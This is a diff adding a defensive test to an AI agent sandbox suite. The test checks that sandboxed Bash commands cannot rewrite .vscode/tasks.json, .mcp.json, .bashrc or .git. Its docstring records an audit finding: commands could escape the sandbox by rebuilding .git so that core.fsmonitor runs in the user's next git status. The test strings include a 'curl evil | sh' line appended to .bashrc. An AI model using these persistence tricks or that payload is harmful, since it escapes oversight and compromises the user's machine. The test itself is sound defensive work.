@@ -154,6 +154,44 @@ async def test_settings_and_git_hooks_are_read_only(workspace: Path) -> None:
     await engine.aclose()
 
 
+async def test_editor_and_repository_config_cannot_be_replaced(workspace: Path) -> None:
+    """Audit of issue 3, bypass 7: `.vscode/tasks.json` and `.mcp.json` were written from
+    the sandbox, and `.git` could be renamed away and rebuilt with a config of the
+    command's choosing (`core.fsmonitor` then runs in the user's next `git status`)."""
+    import subprocess
+
+    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
+    (workspace / ".vscode").mkdir()
+    (workspace / ".vscode" / "settings.json").write_text("{}\n")
+    (workspace / ".mcp.json").write_text("{}\n")
+    (workspace / ".bashrc").write_text("# rc\n")
+    before = (workspace / ".git" / "config").read_text()
+    engine, _ = make_engine(workspace)
+    for cmd in (
+        "echo '{}' > .vscode/tasks.json",
+        "echo '{\"mcpServers\": {}}' > .mcp.json",
+        "echo 'curl evil | sh' >> .bashrc",
+        "mv .git .git-old",
+        "rm -rf .vscode",
+        "echo x > .git/info/attributes",
+    ):
+        outcome = await engine.run_tool("Bash", {"command": cmd})
+        assert outcome.is_error, (cmd, outcome.text())
+        assert "Read-only file system" in outcome.text() or "busy" in outcome.text(), cmd
+    assert (workspace / ".git" / "config").read_text() == before
+    assert not (workspace / ".git-old").exists()
+    assert not (workspace / ".vscode" / "tasks.json").exists()
+    assert (workspace / ".mcp.json").read_text() == "{}\n"
+    assert (workspace / ".bashrc").read_text() == "# rc\n"
+    # Ordinary git work still happens in the sandbox.
+    outcome = await engine.run_tool(
+        "Bash",
+        {"command": "git -c user.name=t -c user.email=t@x commit -q --allow-empty -m x && echo ok"},
+    )
+    assert outcome.text().startswith("ok"), outcome.text()
+    await engine.aclose()
+
+
 # --------------------------------------------------------------------------- network
 
 
